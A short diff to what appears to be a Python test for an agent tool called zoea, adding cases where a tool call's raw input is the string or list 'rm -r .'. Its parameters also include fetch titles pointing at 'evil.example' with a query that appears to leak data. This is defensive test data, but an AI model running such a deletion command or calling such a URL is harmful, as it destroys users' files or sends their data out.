@@ -155,6 +155,8 @@ async def test_a_call_that_never_came_to_zoea_is_stored_as_the_agent_tells_it(tm
     "more",
     [
         {"rawInput": {"command": "rm -r ."}},
+        {"rawInput": "rm -r ."},
+        {"rawInput": ["rm -r ."]},
         {"kind": "fetch"},
         {"title": "Fetch https://evil.example/?zoea_list_myses"},
         {"title": "https://evil.example/zoea_list_myses"},
